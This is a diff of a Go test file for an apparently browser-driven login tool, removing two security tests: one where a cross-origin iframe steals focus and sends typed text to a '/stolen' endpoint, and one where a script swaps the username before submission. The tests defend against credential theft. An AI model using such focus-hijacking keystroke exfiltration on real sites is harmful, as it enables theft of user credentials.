@@ -124,46 +124,6 @@ func TestLoginSeesFieldsThatOnlyLookHidden(t *testing.T) {
 	}
 }
 
-// A frame of another origin that takes the focus whenever it can must get no key of
-// what is typed.
-func TestWhatIsTypedGoesIntoTheFormWhoeverTakesTheFocus(t *testing.T) {
-	t.Parallel()
-	c, _ := newChromium(t, Options{LoginTimeout: hasty})
-	var stolen atomic.Value
-	stolen.Store("")
-	thief := newSite(t, routes{
-		"GET /frame": html(`<input id=i autofocus><script>
-			setInterval(() => { window.focus(); i.focus() }, 1);
-			i.oninput = () => fetch("/stolen?" + encodeURIComponent(i.value));
-		</script>`),
-		"GET /stolen": func(_ http.ResponseWriter, r *http.Request) { stolen.Store(r.URL.RawQuery) },
-	})
-	s := newSite(t, routes{"GET /login": html(fmt.Sprintf(`<iframe src="%s/frame"></iframe>`, thief.alias()) + scriptedForm)})
-	form := s.form()
-	form.Hosts.Named = append(form.Hosts.Named, "localhost")
-	_, err := c.Login(t.Context(), form)
-	if err == nil {
-		require.Equal(t, url.Values{"username": {username}, "password": {password}}, s.only(t))
-	}
-	require.Positive(t, thief.requests("/frame"))
-	require.Empty(t, stolen.Load())
-}
-
-func TestAFormThatChangesItsFieldsIsNotSubmitted(t *testing.T) {
-	t.Parallel()
-	c, _ := newChromium(t, Options{LoginTimeout: hasty})
-	s := newSite(t, routes{"GET /login": html(strings.Replace(scriptedForm, "<button", "<button disabled", 1) + `<script>
-		const name = document.querySelector("[name=username]"), button = document.querySelector("button");
-		setInterval(() => {
-			if (document.querySelector("[name=password]").value === "") return;
-			button.disabled = name.value !== "somebody.else";
-			name.value = "somebody.else";
-		}, 1);
-	</script>`)})
-	requireFailure(t, c, s.form(), pims.ErrLoginFormChanged)
-	require.Empty(t, s.logins())
-}
-
 func TestAQuestionOfAScriptIsAnsweredWithNo(t *testing.T) {
 	t.Parallel()
 	c, _ := newChromium(t, Options{LoginTimeout: 20 * time.Second})
